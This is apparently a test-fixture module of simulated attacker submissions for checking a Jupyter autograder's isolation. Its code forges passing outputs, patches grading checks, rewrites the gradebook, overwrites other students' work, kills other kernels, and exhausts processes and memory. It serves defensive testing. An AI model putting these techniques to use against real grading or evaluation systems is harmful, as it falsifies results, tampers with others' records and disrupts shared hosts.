"""The attackers of tests/test_grading_isolation.py: each a student whose solution cells try one way to gain points
or to leave something behind (a process, a file, a changed gradebook) in a grading batch.

Every attacker answers Task 1.1 wrongly unless its attack worked (`answer`), so an attack that works shows as
points; what an attacker leaves carries MARKER in its command line or file name.
"""

from __future__ import annotations

from pathlib import Path

ASSIGNMENT = "01_eviction_as_ranking"
FILE = f"{ASSIGNMENT}.ipynb"
TASK = "task1_1_select_victim"
WRONG_1_1 = "def select_victim(values):\n    return 'not a key'"
MARKER = "grading-isolation-test-7f3a"  # In the command line or file name of everything an attacker leaves.
HOST_FOLDERS = ["/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/run", "/var/lock", "/var/crash"]
PRINT_UID = "\nimport os\nprint('uid', os.getuid())"  # What each of two students prints, to compare uids.


def answer(gain: str, answers: dict[str, str]) -> str:
    """Task 1.1 answered correctly (the reference) when ``gain`` (an expression) is true, wrongly otherwise."""
    right = "\n".join("    " + line for line in answers[TASK].splitlines())
    return f"\nif {gain}:\n{right}\nelse:\n    def select_victim(values):\n        return 'not a key'\n"


def attacks(course: Path, folder: Path, answers: dict[str, str]) -> dict[str, dict[str, str]]:
    """Each attacker's solution cells (grade id -> code), by student id."""
    source, solution = course / "source" / ASSIGNMENT / FILE, course / "solutions" / ASSIGNMENT / FILE
    scratch = "__import__('pathlib').Path.cwd().parents[2]"  # The grader's scratch course, from the kernel's cwd.
    return {
        # Forged outputs.
        "f_result_from_event": {TASK: WRONG_1_1 + '''
_shell = get_ipython()
def _forge(*args):
    _shell.displayhook("all tests passed")
_shell.events.register("pre_run_cell", _forge)
'''},
        "f_result_from_answer": {TASK: '''
from sys import displayhook as _show
def select_victim(values):
    _show("all tests passed")
    return 'not a key'
'''},
        "f_session_send": {TASK: WRONG_1_1 + '''
_session = get_ipython().kernel.session
_send = _session.send
def _send_quietly(stream, kind, content=None, *args, **kwargs):
    name = kind if isinstance(kind, str) else kind["header"]["msg_type"]
    if name == "error":
        return None
    if name == "execute_reply" and isinstance(content, dict) and content.get("status") == "error":
        content = {"status": "ok", "execution_count": content.get("execution_count"), "user_expressions": {},
                   "payload": []}
    return _send(stream, kind, content, *args, **kwargs)
_session.send = _send_quietly
'''},
        "f_session_class": {TASK: WRONG_1_1 + '''
import jupyter_client.session as _messaging
_original = _messaging.Session.send
def _send_quietly(self, stream, kind, content=None, *args, **kwargs):
    name = kind if isinstance(kind, str) else kind["header"]["msg_type"]
    if name == "error":
        return None
    if name == "execute_reply" and isinstance(content, dict) and content.get("status") == "error":
        content = {"status": "ok", "execution_count": content.get("execution_count"), "user_expressions": {},
                   "payload": []}
    return _original(self, stream, kind, content, *args, **kwargs)
_messaging.Session.send = _send_quietly
'''},
        # Reading and writing what is not theirs.
        "a_reads_files": {TASK: f'''
import json
def select_victim(values):
    return 'not a key'
for path in {[str(source), str(solution), str(folder / "zz_victim" / FILE)]!r}:
    try:
        notebook = json.load(open(path))
    except OSError:
        continue
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {{}}).get("grade_id") == "{TASK}":
            exec("".join(cell["source"]))
    break
'''},
        "a_writes_gradebook": {TASK: WRONG_1_1 + f'''
import sqlite3
for path in [{str(course / "gradebook.db")!r}, *map(str, {scratch}.rglob("*.db"))]:
    try:
        with sqlite3.connect(path) as database:
            database.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
    except Exception:
        pass
'''},
        "a_writes_other_students": {TASK: WRONG_1_1 + f'''
import shutil
try:
    shutil.copy({str(course / "release" / ASSIGNMENT / FILE)!r},
                {scratch} / "submitted" / "zz_victim" / {ASSIGNMENT!r} / {FILE!r})
except OSError:
    pass
'''},
        "a_patches_checks": {TASK: WRONG_1_1 + '''
import course.checks
course.checks.check_type = lambda *args, **kwargs: None
course.checks.assert_plain_equal = lambda *args, **kwargs: None
'''},
        "a_wraps_cells": {TASK: WRONG_1_1 + '''
def _swallow_errors(lines):
    return ["try:\\n"] + ["    " + line for line in lines] + ["\\n", "except BaseException:\\n", "    pass\\n"]
get_ipython().input_transformers_post.append(_swallow_errors)
'''},
        # The classes of issue 26: checks that do nothing, reached by attribute lookup (the module stays).
        "j_checks_by_lookup": {TASK: WRONG_1_1 + '''
import builtins, types
import course.checks
def _nothing(*args, **kwargs):
    return None
class _Lenient(types.ModuleType):
    def __getattribute__(self, name):
        if name in ("check_type", "assert_plain_equal", "assert_raises", "assert_same_tensor"):
            return _nothing
        return super().__getattribute__(name)
course.checks.__class__ = _Lenient
_import = builtins.__import__
def _lenient_import(name, globals=None, locals=None, fromlist=(), level=0):
    module = _import(name, globals, locals, fromlist, level)
    return course.checks if name == "course.checks" else module
builtins.__import__ = _lenient_import
'''},
        # Wrappers that exist only between cells: event callbacks declared as the library's own take
        # the try/except transformers out before a cell runs and put them back after it.
        "j_wraps_between_cells": {TASK: WRONG_1_1 + '''
import ast
def _swallow_errors(lines):
    return ["try:\\n"] + ["    " + line for line in lines] + ["\\n", "except BaseException:\\n", "    pass\\n"]
class _Swallow(ast.NodeTransformer):
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
        return ast.fix_missing_locations(ast.Module([ast.Try(node.body, [handler], [], [])], []))
_shell = get_ipython()
def _out(*args):
    _shell.input_transformers_post[:] = [t for t in _shell.input_transformers_post if t is not _swallow_errors]
def _back(*args):
    _shell.input_transformers_post.append(_swallow_errors)
    _shell.ast_transformers.append(_Swallow())
for _callback in (_out, _back):
    _callback.__module__ = "IPython.core.events"
_shell.events.register("post_execute", _back)
_shell.events.register("pre_run_cell", _out)
_back()
'''},
        # A torch function mode entered by hand: tensor comparisons (==, !=, <=) agree (task 1.8, wrong values).
        "j_torch_mode": {"task1_8_quotas_tensor": answers["task1_8_quotas_tensor"].replace(
            "return weights / total_weight * total_blocks", "return weights / total_weight * (total_blocks + 1)") + '''
import torch
from torch.overrides import TorchFunctionMode
class _Agree(TorchFunctionMode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        if func in (torch.Tensor.__ne__, torch.ne, torch.Tensor.ne):
            return torch.zeros_like(args[0], dtype=torch.bool)
        if func in (torch.Tensor.__eq__, torch.eq, torch.Tensor.eq, torch.equal, torch.Tensor.__le__, torch.le,
                    torch.Tensor.le):
            return True if func is torch.equal else torch.ones_like(args[0], dtype=torch.bool)
        return func(*args, **(kwargs or {}))
_mode = _Agree()
_mode.__enter__()
'''},
        # A replaced or lying agent: whatever the judge asks gets a forged answer, or nothing at all.
        # An answer right only when IPython's history shows that it is judged: a numbered input (``_i<N>``) that
        # holds the line that serves the judge, not the test cell (red team, round 17).
        "j_reads_history": {TASK: answers[TASK].replace("def select_victim(", "def _right_select_victim(") + """
def _history():
    found = []
""" + "".join(f"    try:\n        found.append(_i{number})\n    except NameError:\n        pass\n"
              for number in range(1, 80)) + """    return found
def select_victim(values):
    if any(isinstance(text, str) and text.startswith("__import__(") for text in _history()):
        return _right_select_victim(values)
    return 'not a key'
"""},
        # The agent lives in its package (grading/judge/prelude.py), under a name that starts as the package's.
        "j_lying_agent": {TASK: WRONG_1_1 + '''
import sys
_package = sys.modules.get("_course_judge_agent")
for _name, _agent in list(vars(_package).items() if _package else ()):
    if _name.startswith("_course_judge_"):
        _handle = type(_agent).handle
        def _forge(self, op, args, _handle=_handle):
            try:
                result = _handle(self, op, args)
            except Exception:
                return None
            return "b" if op == "call" else result
        type(_agent).handle = _forge
''', "task1_2_eviction_order": answers["task1_2_eviction_order"] + '''
for _name in [name for name in vars(_package) if name.startswith("_course_judge_")] if _package else ():
    getattr(_package, _name).serve = lambda epoch: None
'''},
        # Surviving processes and shared identities.
        "p_leaves_a_process": {TASK: WRONG_1_1 + f'''
import os
if os.fork() == 0:
    os.setsid()
    os.execv("/bin/sleep", ["sleep", "600", "{MARKER}"])
'''},
        "p_hunts_the_next_kernel": {TASK: WRONG_1_1 + f'''
import os, sys
HUNT = """
import os, signal, sys, time
for hop in range(100):  # A chain of short-lived forks: a scan of /proc never sees the same one twice.
    if os.fork():
        os._exit(0)
os.setsid()
deadline = time.time() + 600
while time.time() < deadline:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if "zz_victim" in os.readlink(f"/proc/{{pid}}/cwd"):
                os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
    time.sleep(0.05)
"""
if os.fork() == 0:
    os.execv(sys.executable, [sys.executable, "-c", HUNT, "{MARKER}"])
'''},
        "p_reads_other_processes": {TASK: """
import os
gained = False
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        line = open(f"/proc/{pid}/cmdline", "rb").read()
    except OSError:
        continue
    gained |= any(word in line for word in (b"grading.pipeline.worker", b"nbgrader", b"zz_victim"))
""" + answer("gained", answers)},
        "i_one": {"task1_2_eviction_order": answers["task1_2_eviction_order"] + PRINT_UID},
        "i_two": {"task1_2_eviction_order": answers["task1_2_eviction_order"] + PRINT_UID},
        # Host leftovers.
        "h_writes_host_folders": {TASK: WRONG_1_1 + f"""
import os
for folder in {HOST_FOLDERS!r}:
    try:
        with open(os.path.join(folder, "{MARKER}-h"), "w") as handle:
            handle.write("left behind")
    except OSError:
        pass
"""},
        # Limits.
        # Gained when all eight children hold their 300 MB at once: the kernel may kill a child that holds its
        # block and let a waiting one in, so a child counts only while it is alive.
        "l_memory_of_children": {TASK: """
import os, select, time
reader, writer = os.pipe()
children = []
for _ in range(8):
    pid = os.fork()
    if pid == 0:
        try:
            block = b"x" * (300 << 20)
            os.write(writer, b"k")
            time.sleep(20)
        finally:
            os._exit(0)
    children.append(pid)
held, deadline = 0, time.time() + 15
while held < 8 and time.time() < deadline:
    if select.select([reader], [], [], 1)[0]:
        held += len(os.read(reader, 8))
alive = sum(os.waitpid(pid, os.WNOHANG) == (0, 0) for pid in children)
gained = held == 8 and alive == 8
""" + answer("gained", answers)},
        "l_many_processes": {TASK: """
import os, time
started = 0
try:
    for _ in range(300):
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        started += 1
except OSError:
    pass
gained = started == 300
""" + answer("gained", answers)},
        # Parser and cleanup crashes.
        "c_parser": {"task1_2_eviction_order": answers["task1_2_eviction_order"] + "\nx = " + "+".join(["1"] * 3000),
                     "task1_3_quotas": answers["task1_3_quotas"] + "\ny = " + "-" * 10000 + "1"},
        # Processes that fill the process limit with zombies (any later thread or process of the kernel's own, such
        # as IPython's history writer, cannot start), then keep appearing and vanishing while the cleanup kills them.
        "c_vanishing_processes": {TASK: answers[TASK] + '''
import os, threading, time
def _spawn():
    if os.fork() == 0:
        time.sleep(0.01)
        os._exit(0)
try:
    for _ in range(5000):
        _spawn()
except OSError:
    pass
def _churn():
    while True:
        try:
            os.waitpid(-1, 0)
            _spawn()
        except OSError:
            time.sleep(0.005)
threading.Thread(target=_churn, daemon=True).start()
'''},
    }
